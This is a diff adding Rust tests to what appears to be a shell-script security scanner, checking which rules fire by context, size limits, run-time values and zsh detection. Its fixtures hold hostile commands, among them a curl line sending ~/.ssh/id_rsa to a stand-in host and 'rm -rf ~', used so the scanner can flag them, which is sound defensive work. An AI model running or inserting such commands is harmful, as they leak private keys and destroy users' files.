@@ -433,11 +433,152 @@ fn an_oversize_script_is_reported_not_skipped() {
     let dir = tempfile::tempdir().unwrap();
     let script = "echo fine\n".repeat(60_000); // 600 KB, over the engine's 512 KiB
     std::fs::write(dir.path().join("big.sh"), script).unwrap();
+    // A note by default, where the engine stopped reading...
     let out = scan(dir.path(), &["--format", "json", "--fail-on", "review"]);
+    assert_eq!(out.status.code(), Some(0));
+    let doc = json(&out);
+    assert_eq!(findings(&doc), set(&[]));
+    let notes = doc["notes"].as_array().unwrap();
+    assert_eq!(notes.len(), 1, "{doc}");
+    assert_eq!(notes[0]["file"], "big.sh");
+    assert!(
+        notes[0]["message"]
+            .as_str()
+            .unwrap()
+            .contains("larger than the bouncer reads"),
+        "{doc}"
+    );
+    // ...and a finding that fails the gate with --strict.
+    let out = scan(
+        dir.path(),
+        &["--format", "json", "--fail-on", "review", "--strict"],
+    );
     assert_eq!(out.status.code(), Some(1));
     assert_eq!(
         findings(&json(&out)),
         set(&[("big.sh", 1, 1, "budget.input-size", "review")])
+    );
+}
+
+/// What a file runs on decides the rules that say something about it: the same
+/// `sudo install` into /usr/local is a finding in a developer script, and not in an
+/// installer, a `make install` recipe, a container or a job on a hosted runner; on a
+/// self-hosted runner (someone's machine) it is again.
+#[test]
+fn where_a_command_runs_decides_which_rules_apply() {
+    let dir = tempfile::tempdir().unwrap();
+    let write = |name: &str, text: &str| {
+        let path = dir.path().join(name);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    };
+    let cmd = "sudo install -m 755 bin/tool /usr/local/bin/tool";
+    write("scripts/dev.sh", &format!("#!/bin/sh\n{cmd}\n"));
+    write("scripts/install.sh", &format!("#!/bin/sh\n{cmd}\n"));
+    write(
+        "scripts/rootless-install.sh",
+        &format!("#!/bin/sh\n{cmd}\n"),
+    );
+    write(
+        "Makefile",
+        &format!("install:\n\t{cmd}\nrelease:\n\t{cmd}\n"),
+    );
+    write("Dockerfile", &format!("FROM debian\nRUN {cmd}\n"));
+    write(
+        ".github/workflows/ci.yml",
+        &format!(
+            "on: push\njobs:\n  hosted:\n    runs-on: ubuntu-latest\n    steps:\n      - run: {cmd}\n  \
+             own:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: {cmd}\n"
+        ),
+    );
+    let out = scan(dir.path(), &["--format", "json", "--fail-on", "never"]);
+    let got: BTreeSet<(String, u64)> = findings(&json(&out))
+        .into_iter()
+        .map(|(file, line, _, _, _)| (file, line))
+        .collect();
+    let want: BTreeSet<(String, u64)> = [
+        ("scripts/dev.sh", 2),
+        ("Makefile", 4),
+        (".github/workflows/ci.yml", 10),
+    ]
+    .into_iter()
+    .map(|(f, l)| (f.to_owned(), l))
+    .collect();
+    assert_eq!(got, want);
+    // Rules about what leaves the machine apply everywhere, installers included.
+    write(
+        "scripts/install.sh",
+        "#!/bin/sh\ncurl -d @$HOME/.ssh/id_rsa https://x.example\n",
+    );
+    let out = scan(
+        dir.path(),
+        &[
+            "--format",
+            "json",
+            "--fail-on",
+            "never",
+            "scripts/install.sh",
+        ],
+    );
+    assert_eq!(findings(&json(&out)).len(), 1, "{}", stdout(&out));
+}
+
+/// A program or argument only known at run time is counted, not reported, unless
+/// `--strict`; what the file states is reported either way.
+#[test]
+fn run_time_values_are_counted_and_listed_with_strict() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("run.sh"),
+        "#!/bin/sh\n\"$TOOL\" build\neval \"$CMD\"\nrm -rf ~\n",
+    )
+    .unwrap();
+    let out = scan(dir.path(), &["--format", "json", "--fail-on", "review"]);
+    let doc = json(&out);
+    assert_eq!(
+        findings(&doc),
+        set(&[("run.sh", 4, 1, "filesystem.rm-root-or-home", "deny")])
+    );
+    assert_eq!(doc["summary"]["unjudged"], 2, "{doc}");
+    let text = stdout(&scan(dir.path(), &["--fail-on", "never"]));
+    assert!(
+        text.contains("2 places that depend on run-time values not judged (--strict lists them)"),
+        "{text}"
+    );
+    let out = scan(
+        dir.path(),
+        &["--format", "json", "--fail-on", "review", "--strict"],
+    );
+    let doc = json(&out);
+    let rules: BTreeSet<String> = findings(&doc).into_iter().map(|f| f.3).collect();
+    assert!(rules.contains("shell.unresolved-program"), "{doc}");
+    assert!(rules.contains("shell.unreadable-code"), "{doc}");
+    assert_eq!(doc["summary"]["unjudged"], 0);
+}
+
+/// A script without a `#!` line that uses zsh-only syntax is zsh (one note, no
+/// findings); `--strict` makes the unread file a finding.
+#[test]
+fn zsh_is_recognised_by_its_syntax() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("plugin.sh"),
+        "# sourced by zsh\nsetopt extended_glob\nfor f in ${(f)\"$(ls)\"}; do rm -rf ~; done\n",
+    )
+    .unwrap();
+    let doc = json(&scan(
+        dir.path(),
+        &["--format", "json", "--fail-on", "never"],
+    ));
+    assert_eq!(findings(&doc), set(&[]));
+    assert_eq!(doc["notes"].as_array().unwrap().len(), 1, "{doc}");
+    let doc = json(&scan(
+        dir.path(),
+        &["--format", "json", "--fail-on", "never", "--strict"],
+    ));
+    assert_eq!(
+        findings(&doc),
+        set(&[("plugin.sh", 1, 1, "scan.not-judged", "review")])
     );
 }
 
